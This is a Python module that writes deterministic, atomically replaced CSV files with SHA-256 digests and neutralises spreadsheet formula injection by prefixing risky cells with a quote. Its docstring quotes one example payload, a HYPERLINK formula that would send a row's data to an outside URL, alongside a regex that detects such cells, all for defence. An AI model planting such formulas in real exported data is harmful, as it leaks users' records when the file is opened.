"""CSV files of a round: UTF-8 with a BOM (so that Excel shows the Chinese), comma-separated, one
header row, ``\\n`` line ends, money as plain decimals with two places, empty cells for nulls.
A cell is quoted only when it holds a comma, a quote or a line break (quotes doubled), as
Python's csv module does.

Formula injection: a spreadsheet that opens a CSV file runs a cell starting with ``=``, ``+``,
``-``, ``@`` (or tab, CR) as a formula: an enterprise name ``=HYPERLINK("http://…"&A1,"点此核对")``
would be a link that sends the row away. Every text cell that starts with one of those (also
their full-width forms, and after leading spaces) or with ``'`` is written with a ``'`` in front
(OWASP's rule); :func:`restore` takes it off again, so a program reading the file back (commit)
gets the value exactly. Numbers (money, counts) are never text cells: ``-12.50`` stays a number.

Every file is written to a new temporary file in the folder and renamed into place: a run never
writes through a link planted in the folder, and a reader never sees half a file.

Nothing time- or machine-dependent goes into a file, so two runs on the same inputs write the
same bytes.
"""

from __future__ import annotations

import contextlib
import hashlib
import os
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import IO

import pyarrow as pa
import pyarrow.compute as pc

from ..arrowtext import holds_any
from ..errors import UsageError, simple
from .tables import Kind, Table, joined

ENCODING = "utf-8-sig"
BOM = "\ufeff".encode()
#: Rows rendered at a time (bounds memory, and Arrow's 2 GB string arrays).
CHUNK = 100_000


#: A text cell a spreadsheet could take for a formula (RE2 syntax, for Arrow), or one that
#: already starts with the quote the rule adds (so that :func:`restore` is exact).
_FORMULA = r"^(['=+\-@\t\r＝＋－＠]|[ \x{3000}]+[=+\-@＝＋－＠])"
QUOTE = "'"
#: The first characters of the cells _FORMULA can match.
_FIRST = pa.array(list("'=+-@\t\r＝＋－＠ \u3000"), pa.string())
#: Mode of the files written (the temporary file is created private; the result is not).
_MODE = 0o644


def neutralised(values: pa.Array) -> pa.Array:
    """Text cells with a ``'`` in front of any that a spreadsheet would run as a formula."""
    # Most cells start with a letter, a digit or a CJK character: look at the first character
    # of every cell, and run the regular expression only when some could be risky.
    first = pc.utf8_slice_codeunits(values, 0, 1)
    if not pc.any(pc.is_in(first, value_set=_FIRST)).as_py():
        return values
    risky = pc.match_substring_regex(values, _FORMULA)
    if not pc.any(risky).as_py():
        return values
    return pc.if_else(risky, pc.binary_join_element_wise(QUOTE, values, ""), values)


def restore(text: str) -> str:
    """A text cell as it was before :func:`neutralised` (for programs reading a file back)."""
    return text[1:] if text.startswith(QUOTE) else text


@contextlib.contextmanager
def replacing(path: Path) -> Iterator[IO[bytes]]:
    """A new file that becomes ``path`` when the block ends without error.

    Written under a fresh name in the same folder (created exclusively, so never through a link)
    and renamed over ``path``: a link planted at ``path`` is replaced, not followed, and a
    failure leaves the old file (or none), never half a file.
    """
    try:
        fd, tmp = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.", suffix=".part")
    except OSError as exc:
        raise _cannot_write(path, exc) from exc
    try:
        # No fsync: after a crash a list may be empty or old, and then its hash no longer
        # matches the manifest, so commit refuses the folder; running again writes it anew.
        with os.fdopen(fd, "w+b") as out:
            yield out
        os.chmod(tmp, _MODE)
        os.replace(tmp, path)
    except BaseException as exc:
        with contextlib.suppress(OSError):
            os.unlink(tmp)
        if isinstance(exc, OSError):
            raise _cannot_write(path, exc) from exc
        raise


def _cannot_write(path: Path, exc: OSError) -> UsageError:
    """A file of the round that cannot be written (a full disk, no permission, a folder in the
    way): said with the file, not as a traceback."""
    why = exc.strerror or str(exc)
    return UsageError(
        [simple("PM712", f"cannot write {path.name} into the round folder: {why}", file=str(path))]
    )


def write_bytes(path: Path, data: bytes) -> None:
    """``path.write_bytes(data)``, through :func:`replacing`."""
    with replacing(path) as out:
        out.write(data)


def csv_field(values: pa.Array) -> pa.Array:
    """Cells as CSV fields: quoted when needed, empty for null."""
    needs = pc.match_substring_regex(values, '[",\r\n]') if holds_any(values, b'",\r\n') else None
    if needs is not None and pc.any(needs).as_py():
        quoted = pc.binary_join_element_wise('"', pc.replace_substring(values, '"', '""'), '"', "")
        values = pc.if_else(needs, quoted, values)
    return values.fill_null("") if values.null_count else values


def _lines(fields: list[pa.Array]) -> memoryview:
    parts: list[pa.Array | str] = []
    for i, f in enumerate(fields):
        parts += [","] if i else []
        parts.append(f)
    return joined([*parts, "\n"])


def write_csv(table: Table, folder: Path) -> str:
    """Write ``table`` into ``folder``; returns the SHA-256 of what was written."""
    assert table.file is not None
    headers = [c.label if table.chinese_headers else c.name for c in table.columns]
    kinds = [c.kind for c in table.columns]
    digest = hashlib.sha256()
    with replacing(folder / table.file) as out:

        def put(data: bytes | memoryview) -> None:
            out.write(data)
            digest.update(data)

        put(BOM)
        put(_lines([csv_field(pa.array([h])) for h in headers]))
        for start in range(0, table.num_rows, CHUNK):
            texts = table.texts(start, start + CHUNK)
            put(
                _lines(
                    [
                        csv_field(neutralised(t) if kind is Kind.TEXT else t)
                        for kind, t in zip(kinds, texts, strict=True)
                    ]
                )
            )
    return digest.hexdigest()


def sha256_file(path: Path) -> str:
    digest = hashlib.sha256()
    with path.open("rb") as f:
        for block in iter(lambda: f.read(1 << 20), b""):
            digest.update(block)
    return digest.hexdigest()
